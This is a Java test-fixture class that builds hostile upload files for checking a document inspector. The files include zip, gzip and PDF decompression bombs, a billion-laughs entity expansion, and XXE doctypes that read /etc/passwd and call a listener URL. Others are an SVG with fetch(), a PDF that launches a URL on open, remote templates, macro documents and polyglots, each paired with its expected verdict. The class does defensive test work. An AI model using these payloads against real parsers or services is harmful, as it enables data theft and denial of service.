package org.tasdiq.portfolio.inspection;

import static org.tasdiq.portfolio.inspection.RealFiles.bytes;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.IntStream;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.common.PDStream;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;
import org.jspecify.annotations.Nullable;
import org.tasdiq.portfolio.EvidenceVerdict;
import org.tasdiq.portfolio.VerdictReason;

/** Files made to harm who reads them, made anew for each test; none of them is kept. */
public final class HostileFiles {
    /** @param verdict and reason, where what has to be said is determined */
    @SuppressWarnings("ArrayRecordComponent") // never compared
    public record Hostile(
            String what,
            String extension,
            byte[] content,
            @Nullable EvidenceVerdict verdict,
            @Nullable VerdictReason reason) {
        @Override
        public String toString() {
            return what;
        }
    }

    /** The test file all virus scanners know; harmless. In two halves, so that none of them finds it here. */
    public static final String EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-" + "ANTIVIRUS-TEST-FILE!$H+H*";

    private static final int BOMB = 300;

    private HostileFiles() {}

    public static List<Hostile> all(String listener) {
        var all = new ArrayList<Hostile>();
        all.addAll(bombs());
        all.addAll(callers(listener));
        all.addAll(impostors());
        all.addAll(locked());
        return all;
    }

    static List<Hostile> bombs() {
        var nothing = RealFiles.docx("harmless");
        var zeros = bytes(out -> {
            try (var packed = new GZIPOutputStream(out)) {
                RealFiles.zeros(BOMB, packed);
            }
        });
        var bomb = RealFiles.bomb();
        return List.of(
                refused("a bomb", "docx", bomb, VerdictReason.UNPACKS_TOO_LARGE),
                refused("a bomb that lies about its size", "docx", lying(bomb), VerdictReason.UNPACKS_TOO_LARGE),
                refused("a gzip bomb by itself", "txt", zeros, VerdictReason.NAME_AND_CONTENT_DIFFER),
                refused(
                        "a gzip bomb as a picture",
                        "docx",
                        RealFiles.with(nothing, Map.of("word/media/image1.emz", zeros)),
                        VerdictReason.UNPACKS_TOO_LARGE),
                refused(
                        "a bomb in an embedded workbook",
                        "docx",
                        RealFiles.with(nothing, Map.of("word/embeddings/book.xlsx", bomb)),
                        VerdictReason.UNPACKS_TOO_LARGE),
                refused("archives in archives", "docx", nested(5), VerdictReason.NESTED_TOO_DEEP),
                refused("parts that overlap", "docx", overlapping(nothing, 500), VerdictReason.UNPACKS_TOO_LARGE),
                refused("ten thousand parts", "xlsx", manyParts(10_001, "xl/p"), VerdictReason.TOO_MANY_PARTS),
                refused(
                        "a hundred and one embedded files",
                        "docx",
                        manyParts(101, "word/embeddings/o"),
                        VerdictReason.TOO_MANY_PARTS),
                refused("a PDF with a hundred and one attachments", "pdf", attached(101), VerdictReason.TOO_MANY_PARTS),
                clean("a PDF with a hundred attachments", "pdf", attached(100)),
                refused("a PNG of 900 megapixels", "png", RealFiles.hugePicture(), VerdictReason.IMAGE_TOO_LARGE),
                refused("a JPEG of 900 megapixels", "jpg", hugeJpeg(), VerdictReason.IMAGE_TOO_LARGE),
                any("a PDF whose page unpacks to 300 megabytes", "pdf", pdfBomb()),
                any("entities that multiply", "docx", document("<!DOCTYPE d [" + laughter() + "]>", "&l9;")));
    }

    /** Files that would have their reader call somebody, and tell where it is read. */
    static List<Hostile> callers(String listener) {
        var doctype = "<!DOCTYPE d [<!ENTITY % p SYSTEM \"" + listener + "/dtd\"> %p; <!ENTITY x SYSTEM \"" + listener
                + "/entity\"> <!ENTITY f SYSTEM \"file:///etc/passwd\">]>";
        var svg = "<?xml version=\"1.0\"?>" + doctype + "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>fetch('"
                + listener + "')</script><text>&x;&f;</text></svg>";
        var template = "<?xml version=\"1.0\"?><Relationships"
                + " xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\""
                + " Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\""
                + " Target=\"" + listener + "/template.dotm\" TargetMode=\"External\"/></Relationships>";
        return List.of(
                any("a text with entities of others", "docx", document(doctype, "&x;&f;")),
                any("a workbook with entities of others", "xlsx", workbook(doctype)),
                any("an open document with entities of others", "odt", openDocument(doctype)),
                any(
                        "relations with entities of others",
                        "docx",
                        RealFiles.with(
                                RealFiles.docx("x"),
                                Map.of("word/_rels/document.xml.rels", (doctype + template).getBytes(UTF_8)))),
                any(
                        "a template from elsewhere",
                        "docx",
                        RealFiles.with(
                                RealFiles.docx("x"), Map.of("word/_rels/settings.xml.rels", template.getBytes(UTF_8)))),
                any("a form of XML in a PDF", "pdf", xfa(doctype)),
                any("a PDF that runs scripts", "pdf", scripted(listener)),
                refused("a drawing with a script", "svg", svg.getBytes(UTF_8), VerdictReason.TYPE_NOT_ALLOWED),
                refused("a drawing called a text", "txt", svg.getBytes(UTF_8), VerdictReason.NAME_AND_CONTENT_DIFFER));
    }

    static List<Hostile> impostors() {
        var pdf = RealFiles.pdf("a page");
        var zip = RealFiles.docx("a document");
        var page = "<html><body><script>alert(document.domain)</script></body></html>".getBytes(UTF_8);
        var jpeg = RealFiles.picture("jpg", 60, 40);
        var macros = RealFiles.docxWithMacros();
        var enabled = RealFiles.with(
                RealFiles.xlsx("x"),
                Map.of(
                        "[Content_Types].xml",
                        ("<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Override"
                                        + " PartName=\"/xl/workbook.xml\" ContentType=\"application/"
                                        + "vnd.ms-excel.sheet.macroEnabled.main+xml\"/></Types>")
                                .getBytes(UTF_8)));
        return List.of(
                // What such a file also is nobody will see: it is served as what its name says, never guessed.
                clean("a PDF with an archive behind it", "pdf", join(pdf, zip)),
                clean("a picture with an archive behind it", "jpg", join(jpeg, zip)),
                clean("a picture with a page behind it", "jpg", join(jpeg, page)),
                refused("a page with a PDF in it", "pdf", join(page, pdf), VerdictReason.NAME_AND_CONTENT_DIFFER),
                refused("a PDF called a document", "docx", join(pdf, zip), VerdictReason.NAME_AND_CONTENT_DIFFER),
                refused("a page called a text", "txt", page, VerdictReason.NAME_AND_CONTENT_DIFFER),
                refused("a program called a picture", "png", program(), VerdictReason.NAME_AND_CONTENT_DIFFER),
                refused("a document with macros", "docx", macros, VerdictReason.MACROS),
                refused("a workbook for macros", "xlsx", enabled, VerdictReason.NAME_AND_CONTENT_DIFFER),
                refused(
                        "an open document with macros",
                        "odt",
                        RealFiles.with(RealFiles.odt("x"), Map.of("Basic/Standard/Module1.xml", new byte[1])),
                        VerdictReason.MACROS),
                refused(
                        "a document with macros in a document",
                        "docx",
                        RealFiles.with(zip, Map.of("word/embeddings/inner.docx", macros)),
                        VerdictReason.MACROS));
    }

    static List<Hostile> locked() {
        return List.of(
                lock("a PDF with a password", "pdf", RealFiles.lockedPdf("candidate")),
                lock("a document with a password", "docx", RealFiles.lockedDocx("candidate")),
                lock("an archive with a password", "docx", encrypted(RealFiles.docx("x"))));
    }

    /** One harmless file of every type that is taken; what is mutated and truncated. */
    static Map<String, byte[]> ofEveryType() {
        var all = new LinkedHashMap<String, byte[]>();
        all.put("pdf", RealFiles.pdf("first page", "second page"));
        all.put("docx", RealFiles.docx("a document", "مذكرة"));
        all.put("xlsx", RealFiles.xlsx("figures", "more figures"));
        all.put("pptx", RealFiles.pptx("a slide", "another"));
        all.put("odt", RealFiles.odt("a text"));
        all.put("ods", openDocumentOf("spreadsheet"));
        all.put("odp", openDocumentOf("presentation"));
        all.put("jpg", RealFiles.picture("jpg", 160, 120));
        all.put("png", RealFiles.picture("png", 160, 120));
        all.put("txt", "a text of some length, مكتسبات الخبرة\n".repeat(20).getBytes(UTF_8));
        all.put("csv", "ville;été\nSfax;1\n".repeat(30).getBytes(UTF_8));
        return all;
    }

    /** Some bytes changed, a stretch overwritten, doubled, or the end cut off. */
    static byte[] mutate(byte[] content, Random random) {
        var mutated = content.clone();
        switch (random.nextInt(4)) {
            case 0 -> {
                for (int n = 1 + random.nextInt(16); n > 0; n--) {
                    mutated[random.nextInt(mutated.length)] = (byte) random.nextInt();
                }
            }
            case 1 -> {
                int from = random.nextInt(mutated.length);
                var noise = new byte[Math.min(mutated.length - from, 1 + random.nextInt(200))];
                random.nextBytes(noise);
                System.arraycopy(noise, 0, mutated, from, noise.length);
            }
            case 2 -> {
                int from = random.nextInt(mutated.length);
                int to = Math.min(mutated.length, from + 1 + random.nextInt(400));
                mutated = join(Arrays.copyOf(mutated, to), Arrays.copyOfRange(mutated, from, mutated.length));
            }
            default -> mutated = Arrays.copyOf(mutated, 1 + random.nextInt(mutated.length));
        }
        return mutated;
    }

    private static final java.nio.charset.Charset UTF_8 = StandardCharsets.UTF_8;

    private static Hostile refused(String what, String extension, byte[] content, VerdictReason reason) {
        return new Hostile(what, extension, content, EvidenceVerdict.REFUSED, reason);
    }

    private static Hostile clean(String what, String extension, byte[] content) {
        return new Hostile(what, extension, content, EvidenceVerdict.CLEAN, null);
    }

    private static Hostile lock(String what, String extension, byte[] content) {
        return new Hostile(what, extension, content, EvidenceVerdict.LOCKED, VerdictReason.PASSWORD);
    }

    private static Hostile any(String what, String extension, byte[] content) {
        return new Hostile(what, extension, content, null, null);
    }

    private static byte[] join(byte[] one, byte[] other) {
        var both = Arrays.copyOf(one, one.length + other.length);
        System.arraycopy(other, 0, both, one.length, other.length);
        return both;
    }

    private static byte[] program() {
        return join("MZ".getBytes(UTF_8), new byte[4000]);
    }

    /** The directory at the end says that every part unpacks to one byte. */
    private static byte[] lying(byte[] archive) {
        var patched = ByteBuffer.wrap(archive.clone()).order(ByteOrder.LITTLE_ENDIAN);
        for (int at : directory(patched)) patched.putInt(at + 24, 1);
        return patched.array();
    }

    private static byte[] encrypted(byte[] archive) {
        var patched = ByteBuffer.wrap(archive.clone()).order(ByteOrder.LITTLE_ENDIAN);
        for (int at : directory(patched)) {
            patched.putShort(at + 8, (short) (patched.getShort(at + 8) | 1));
            int local = patched.getInt(at + 42);
            patched.putShort(local + 6, (short) (patched.getShort(local + 6) | 1));
        }
        return patched.array();
    }

    /** One part that many entries of the directory name. */
    private static byte[] overlapping(byte[] archive, int times) {
        var original = ByteBuffer.wrap(archive).order(ByteOrder.LITTLE_ENDIAN);
        int end = end(original);
        int start = original.getInt(end + 16);
        var first = Arrays.copyOfRange(archive, start, directory(original).get(1));
        var out = new ByteArrayOutputStream();
        out.write(archive, 0, end);
        for (int i = 0; i < times; i++) out.writeBytes(first);
        var tail = ByteBuffer.wrap(Arrays.copyOfRange(archive, end, archive.length))
                .order(ByteOrder.LITTLE_ENDIAN);
        short all = (short) (tail.getShort(10) + times);
        tail.putShort(8, all).putShort(10, all).putInt(12, tail.getInt(12) + times * first.length);
        out.writeBytes(tail.array());
        return out.toByteArray();
    }

    private static int end(ByteBuffer zip) {
        for (int at = zip.limit() - 22; at >= 0; at--) if (zip.getInt(at) == 0x06054b50) return at;
        throw new IllegalArgumentException("no archive");
    }

    /** Where each entry of the directory begins. */
    private static List<Integer> directory(ByteBuffer zip) {
        int end = end(zip);
        var entries = new ArrayList<Integer>();
        int at = zip.getInt(end + 16);
        while (at < end) {
            entries.add(at);
            at += 46 + zip.getShort(at + 28) + zip.getShort(at + 30) + zip.getShort(at + 32);
        }
        return entries;
    }

    private static byte[] nested(int levels) {
        var inner = bytes(out -> zipOf(out, "a.txt", "a".getBytes(UTF_8)));
        for (int i = 2; i < levels; i++) {
            var packed = inner;
            inner = bytes(out -> zipOf(out, "b.zip", packed));
        }
        return RealFiles.with(RealFiles.docx("x"), Map.of("word/embeddings/c.zip", inner));
    }

    private static void zipOf(java.io.OutputStream out, String name, byte[] content) throws IOException {
        var zip = new ZipOutputStream(out);
        zip.putNextEntry(new ZipEntry(name));
        zip.write(content);
        zip.finish();
    }

    private static byte[] manyParts(int count, String name) {
        var parts = new LinkedHashMap<String, byte[]>();
        for (int i = 0; i < count; i++) parts.put(name + i, new byte[] {'x'});
        return RealFiles.with(name.startsWith("xl/") ? RealFiles.xlsx("x") : RealFiles.docx("x"), parts);
    }

    private static byte[] hugeJpeg() {
        var small = RealFiles.picture("jpg", 16, 16);
        for (int i = 0; i < small.length - 8; i++) {
            boolean frame = (small[i] & 0xff) == 0xff && (small[i + 1] & 0xff) == 0xc0;
            if (frame)
                return ByteBuffer.wrap(small)
                        .putShort(i + 5, (short) 30_000)
                        .putShort(i + 7, (short) 30_000)
                        .array();
        }
        throw new IllegalStateException("no frame");
    }

    private static byte[] document(String doctype, String text) {
        var xml = "<?xml version=\"1.0\"?>" + doctype
                + "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p>"
                + "<w:r><w:t>" + text + "</w:t></w:r></w:p></w:body></w:document>";
        return RealFiles.with(RealFiles.docx("x"), Map.of("word/document.xml", xml.getBytes(UTF_8)));
    }

    private static byte[] workbook(String doctype) {
        var xml = "<?xml version=\"1.0\"?>" + doctype
                + "<sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" count=\"1\""
                + " uniqueCount=\"1\"><si><t>&x;&f;</t></si></sst>";
        return RealFiles.with(RealFiles.xlsx("x"), Map.of("xl/sharedStrings.xml", xml.getBytes(UTF_8)));
    }

    private static byte[] openDocument(String doctype) {
        var xml = "<?xml version=\"1.0\"?>" + doctype + "<office:document-content"
                + " xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\""
                + " xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\"><office:body><office:text>"
                + "<text:p>&x;&f;</text:p></office:text></office:body></office:document-content>";
        return RealFiles.with(RealFiles.odt("x"), Map.of("content.xml", xml.getBytes(UTF_8)));
    }

    private static byte[] openDocumentOf(String kind) {
        return RealFiles.with(
                RealFiles.odt("x"), Map.of("mimetype", ("application/vnd.oasis.opendocument." + kind).getBytes(UTF_8)));
    }

    private static String laughter() {
        var entities = new StringBuilder("<!ENTITY l0 \"ha\">");
        IntStream.rangeClosed(1, 9)
                .forEach(n -> entities.append("<!ENTITY l")
                        .append(n)
                        .append(" \"")
                        .append(("&l" + (n - 1) + ";").repeat(10))
                        .append("\">"));
        return entities.toString();
    }

    private static byte[] pdfBomb() {
        return pdf(document -> {
            var page = new PDPage();
            var content = new PDStream(document);
            try (var out = content.createOutputStream(COSName.FLATE_DECODE)) {
                RealFiles.zeros(BOMB, out);
            }
            page.setContents(content);
            document.addPage(page);
        });
    }

    private static byte[] attached(int count) {
        return pdf(document -> {
            document.addPage(new PDPage());
            var files = new HashMap<String, PDComplexFileSpecification>();
            for (int i = 0; i < count; i++) {
                var file = new PDComplexFileSpecification();
                file.setFile("a" + i + ".txt");
                file.setEmbeddedFile(new PDEmbeddedFile(document, new ByteArrayInputStream(new byte[] {'x'})));
                files.put("a" + i, file);
            }
            var tree = new PDEmbeddedFilesNameTreeNode();
            tree.setNames(files);
            var names = new PDDocumentNameDictionary(document.getDocumentCatalog());
            names.setEmbeddedFiles(tree);
            document.getDocumentCatalog().setNames(names);
        });
    }

    private static byte[] xfa(String doctype) {
        return pdf(document -> {
            document.addPage(new PDPage());
            var form = new PDAcroForm(document);
            var xml = new PDStream(document);
            try (var out = xml.createOutputStream()) {
                out.write(("<?xml version=\"1.0\"?>" + doctype + "<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\">"
                                + "<field name=\"a\"><speak>&x;&f;</speak></field></xdp:xdp>")
                        .getBytes(UTF_8));
            }
            form.getCOSObject().setItem(COSName.XFA, xml);
            document.getDocumentCatalog().setAcroForm(form);
        });
    }

    private static byte[] scripted(String listener) {
        return pdf(document -> {
            document.addPage(new PDPage());
            document.getDocumentCatalog()
                    .setOpenAction(new PDActionJavaScript("app.launchURL('" + listener + "', true)"));
        });
    }

    private interface Making {
        void make(PDDocument document) throws IOException;
    }

    private static byte[] pdf(Making making) {
        try (var document = new PDDocument()) {
            making.make(document);
            return bytes(document::save);
        } catch (IOException inMemory) {
            throw new UncheckedIOException(inMemory);
        }
    }
}
